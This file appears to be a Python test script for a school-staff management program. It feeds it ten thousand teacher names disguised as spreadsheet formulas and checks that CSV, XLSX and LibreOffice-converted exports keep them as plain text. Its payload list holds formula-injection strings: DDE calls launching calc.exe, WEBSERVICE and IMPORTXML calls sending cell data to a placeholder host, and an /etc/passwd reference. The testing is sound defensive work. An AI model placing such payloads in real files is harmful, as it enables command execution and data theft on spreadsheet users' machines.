#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Ten thousand names that would like to be formulas, as homeroom teachers of as many classes: neither the CSV nor the
workbook nor what LibreOffice makes of either holds a formula, and every name stands there as typed.
check_hostile_names.py PROGRAM [--names N]

Without LibreOffice what it makes of them is left out with a word.
"""
import argparse
import csv
import json
import os
import pathlib
import random
import shutil
import subprocess
import sys
import tempfile

import written_figures as written
from check_figures import RUSSIAN_CSV

STARTS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "'=", "''=", "\"=", " =", "\u00a0=", "\u2003=", "=-", "+=", "@=", "=@"]
# Where the program refuses or folds them at the door, they never reach a table; they are tried all the same.
EDGES = ["\t=", "\r=", "\n=", "=\t", "\v=", "\u200b=", "\ufeff="]
BODIES = ["cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)", "HYPERLINK(\"http://x/?\"&A1;\"Смотрите\")", "WEBSERVICE(\"http://x/\"&B2)",
          "IMPORTXML(CONCAT(\"http://x/\";A1);\"//a\")", "DDE(\"soffice\";\"x\";\"y\")", "'file:///etc/passwd'#$passwd.A1",
          "2*3", "7", "1;2", "A1&\"\"", "MSEXCEL|'\\..\\..\\calc.exe'!''", "_xlfn.WEBSERVICE(1)", "{1}", "%0A", "1е5"]
WORDS = ["Ёлкина Жанна Юрьевна", "Щукин Эдуард Ильич", "Иванов", "Ъ Ы Ь", "<b>&amp;</b>", "%1 %2", "«да»"]


def counted(number):
    """A number in letters: a figure is no part of a name."""
    return "".join("абвгдежзик"[int(digit)] for digit in str(number)).capitalize()


def names(number):
    """Different ones, the same in every run."""
    rng = random.Random(number)
    found = {}
    while len(found) < number:
        start = rng.choice(EDGES if rng.random() < 0.05 else STARTS)
        found[f"{start}{rng.choice(BODIES)} {rng.choice(WORDS)} {counted(len(found))}"] = True
    return list(found)


class Check:
    def __init__(self, program, folder):
        self.program, self.folder = program, pathlib.Path(folder)

    def run(self, *words, codes=(0,)):
        done = subprocess.run([self.program, "--store", self.folder / "s.starosta", *map(str, words)], capture_output=True,
                              env=dict(os.environ, HOME=str(self.folder)))
        if done.returncode not in codes:
            raise SystemExit(f"{words[:2]}: exit {done.returncode}: {done.stderr.decode()}")
        return done.stdout

    def school(self, hostile):
        """As many classes as names, 1А0 to 12Я…, each with its teacher."""
        classes = [f"{1 + at % 12}{'АБВГДЕЖЗИК'[at // 12 % 10]}{at // 120}" for at in range(len(hostile))]
        self.run("init", "--name", "=МБОУ", "--short-name", "=cmd|' /C calc'!A0", "--year", "2026/2027", "--classes", ",".join(classes),
                 "--administrator", "Пак Бато Батоевич", "--order", "№ 12 от 01.09.2026")
        table = self.folder / "работники.csv"
        with open(table, "w", encoding="utf-8", newline="") as out:
            rows = csv.writer(out, delimiter=";", quoting=csv.QUOTE_ALL)
            rows.writerow(["ФИО", "Должность", "Классное руководство"])
            # What looks like a guard of the program's own is taken off: one more keeps the name.
            rows.writerows([f"'{name}" if name.lstrip("'")[:1] in "=+-@＝＋－＠" and name[0] == "'" else name, "учитель", cls]
                           for name, cls in zip(hostile, classes))
        done = json.loads(self.run("import", "staff", table, "--apply", "--skip-bad-rows", "--json", codes=(0, 3)))
        return done["added"], done["errors"]


def plain(text):
    """As names are stored: neither spaces nor what nobody sees at the edges, one space inside."""
    return " ".join(text.strip("\u200b\ufeff").split())


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("program", type=pathlib.Path)
    parser.add_argument("--names", type=int, default=10_000)
    options = parser.parse_args()
    hostile = names(options.names)
    with tempfile.TemporaryDirectory() as folder:
        check = Check(options.program.resolve(), folder)
        added, refused = check.school(hostile)
        print(f"{len(hostile)} names: {added} taken, {len(refused)} refused")
        assert added + len(refused) == len(hostile), "every row is taken or refused"
        assert added > 0.9 * len(hostile), "the names reach the table"
        wanted = {each["class"]: each["homeroom"] for each in json.loads(check.run("statistics", "--json"))["classes"]}
        typed = {plain(name) for name in hostile}
        assert all(name in typed for name in wanted.values() if name), "names are kept as typed"

        files = {}
        for suffix in ("csv", "xlsx"):
            files[suffix] = check.folder / f"сводка.{suffix}"
            check.run("statistics", "-o", files[suffix])
        form = check.folder / "форма.csv"
        check.run("forms", "set", "Ф", "--rows", "classes", "--column", "=Класс=class", "--column", "@Рук.=homeroom", "--column", "+ОО=school")
        for path in (form, form.with_suffix(".xlsx")):
            check.run("statistics", "--format", "form:Ф", "-o", path)
        long = check.folder / "long.csv"
        check.run("statistics", "--format", "long", "-o", long)

        def hold(what, rows, at, guards):
            found = {row[0].lstrip("'"): row[at] or "" for row in rows}
            for cls, name in wanted.items():
                name = name or ""
                cell = found[cls]
                assert cell == name or (guards and cell == f"'{name}"), f"{what}, {cls}: {cell!r}, and not {name!r}"
            print(f"{what}: {len(wanted)} names as typed, no formula")

        for path, at in ((files["csv"], 1), (form, 1), (long, None)):
            rows = written.csv_rows(path.read_bytes())
            bare = [cell for row in rows for cell in row if cell.lstrip("' \u00a0\u2003")[:1] in tuple("=+-@＝＋－＠")
                    and not cell.startswith("'") and not cell.lstrip("-").isdigit()]
            assert not bare, f"{path.name}: not guarded: {bare[:3]}"
            if at:
                hold(path.name, rows, at, guards=True)
        for path in (files["xlsx"], form.with_suffix(".xlsx")):
            hold(path.name, written.workbook(path), 1, guards=False)
        if not shutil.which("soffice"):
            print("left out: LibreOffice is not installed")
            return 0
        for path, at, guards in ((files["csv"], 1, True), (files["xlsx"], 1, False), (form, 1, True), (long, None, True)):
            out = check.folder / f"office-{path.suffix[1:]}"
            subprocess.run(["soffice", f"-env:UserInstallation=file://{check.folder}/office", "--headless",
                            *([f"--infilter={RUSSIAN_CSV}"] if path.suffix == ".csv" else []), "--convert-to", "xlsx", "--outdir", out, path],
                           check=True, capture_output=True)
            rows = written.workbook(out / f"{path.stem}.xlsx")
            if at:
                hold(f"LibreOffice from {path.name}", rows, at, guards)
    return 0


if __name__ == "__main__":
    sys.exit(main())
